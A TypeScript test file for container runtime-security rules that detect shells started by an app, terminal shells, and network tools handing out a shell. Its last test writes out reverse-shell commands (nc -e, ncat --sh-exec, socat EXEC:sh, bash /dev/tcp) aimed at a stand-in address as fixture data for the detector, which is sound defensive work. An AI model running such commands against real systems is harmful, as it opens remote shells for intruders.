import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Process } from '../../../src/context/process.ts';
import { SECOND, APP, GARDEN, names, exec, started } from '../../support/default-rules.ts';
import { BOOT_NS, makeProcess, RUNTIME } from '../../support/rules-subject.ts';

describe('the default rules about shells', () => {
  test('Shell started by an app', () => {
    const rule = 'Shell started by an app';
    assert.deepEqual(names(exec(), started('/usr/bin/dash', ['-c', 'id'])), [rule]);
    assert.deepEqual(
      names(exec(), started('/bin/busybox', ['-c', 'id'], { image: { name: 'sh' } })),
      [rule],
    );
    assert.deepEqual(names(exec(), started('/bin/busybox', ['-l'], { image: { name: 'ls' } })), []);
    // The container's first process, a health check, docker exec.
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME })), []);
    // A start script's own shells, but not a program that only has a shell's name.
    assert.deepEqual(
      names(exec(), started('/bin/bash', [], { parent: started('/usr/bin/bash') })),
      [],
    );
    const named = (name: string) =>
      started('/bin/bash', [], { parent: makeProcess({ image: { name } }) });
    assert.deepEqual(names(exec(), named('bash')), [rule]);
    assert.deepEqual(names(exec(), named('launcher')), [rule]);
    // npm start, as the first process, or below a shell or an init.
    const npm = (parent: Process, vpid: number, age = SECOND) =>
      makeProcess({ parent, vpid, startBootNs: BOOT_NS - age, image: { name: 'npm start' } });
    const below = (parent: Process) => names(exec(), started('/bin/sh', [], { parent }));
    assert.deepEqual(below(npm(RUNTIME, 1)), []);
    assert.deepEqual(below(npm(started('/bin/bash'), 7)), []);
    const init = (path: string, exe: string, vpid: number) =>
      makeProcess({ parent: RUNTIME, vpid, image: { exePath: path, exe } });
    assert.deepEqual(below(npm(init('/usr/bin/tini', 'tini', 1), 7)), []);
    assert.deepEqual(below(npm(init('/usr/bin/runsv', 'runsv', 9), 7)), []);
    // Which runs whatever it is told; the first process is what the image says.
    assert.deepEqual(below(npm(started('/usr/bin/tini'), 7)), [rule]);
    assert.deepEqual(below(started('/sbin/tini', ['-s', '--', 'sh'])), [rule]);
    assert.deepEqual(below(init('/usr/bin/dumb-init', 'dumb-init', 1)), []);
    // An applet of busybox is what argv[0] says, whatever name a link gave it.
    const applet = (exe: string, args: string[] = []) =>
      started('/bin/busybox', args, { image: { name: 'crond', exe } });
    assert.deepEqual(below(npm(applet('find', ['/', '-exec', 'x']), 7)), [rule]);
    assert.deepEqual(below(npm(applet('/bin/sh'), 7)), []);
    assert.deepEqual(below(applet('/tmp/env', ['sh'])), [rule]);
    assert.deepEqual(below(applet('crond')), []);
    // An intruder's helper is as young, but below the app.
    assert.deepEqual(below(npm(APP, 7)), [rule]);
    assert.deepEqual(below(npm(RUNTIME, 1, 20n * SECOND)), [rule]);
    // Cloud Foundry's own, which only Garden's cells mount there.
    for (const path of ['/tmp/lifecycle/launcher', '/tmp/lifecycle/diego-sshd']) {
      const shell = started('/bin/bash', ['-c', 'x'], { parent: started(path) });
      const noted = path.endsWith('sshd') ? ['Command run by cf ssh'] : [];
      assert.deepEqual(names(exec(), shell, GARDEN), noted, path);
      assert.deepEqual(names(exec(), shell), [rule], path);
    }
    // A server that the runtime started and that turns into a shell itself.
    const turned = started('/bin/sh', [], {
      parent: RUNTIME,
      startBootNs: BOOT_NS - 700n * SECOND,
    });
    assert.deepEqual(names({ ...exec(), startBootNs: turned.startBootNs }, turned), [rule]);
    const failed = { ...exec(), result: -2 };
    assert.deepEqual(names(failed, started('/bin/sh')), []);
  });

  test('Terminal shell in an app container', () => {
    const rule = 'Terminal shell in an app container';
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME, tty: 34816 })), [
      rule,
    ]);
    const ssh = started('/bin/bash', [], {
      parent: started('/tmp/lifecycle/diego-sshd'),
      tty: 34816,
    });
    assert.deepEqual(names(exec(), ssh, GARDEN), [rule]);
    assert.deepEqual(
      names(exec(), started('/bin/bash', [], { parent: RUNTIME, tty: 34816, vpid: 1 })),
      [],
    );
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME })), []);
  });

  test('Network tool gives away a shell', () => {
    const rule = 'Network tool gives away a shell';
    const tool = (exePath: string, args: string[], image = {}) =>
      names(exec(), started(exePath, args, { parent: RUNTIME, image }));
    assert.deepEqual(
      tool('/bin/nc.traditional', ['-e', '/bin/sh', '1.2.3.4', '80'], { name: 'nc' }),
      [rule],
    );
    assert.deepEqual(tool('/bin/nc.traditional', ['-nvle', '/bin/bash']), [rule]);
    assert.deepEqual(tool('/usr/bin/ncat', ['1.2.3.4', '80', '--sh-exec', 'x']), [rule]);
    assert.deepEqual(tool('/usr/bin/socat', ['TCP:1.2.3.4:80', 'EXEC:sh,pty']), [rule]);
    assert.deepEqual(tool('/usr/bin/bash', ['-c', 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1']), [rule]);
    assert.deepEqual(tool('/usr/bin/nc', ['-vz', 'db', '5432']), []);
    assert.deepEqual(tool('/usr/bin/nc', ['-U', '/shared/x.sock']), []);
  });
});
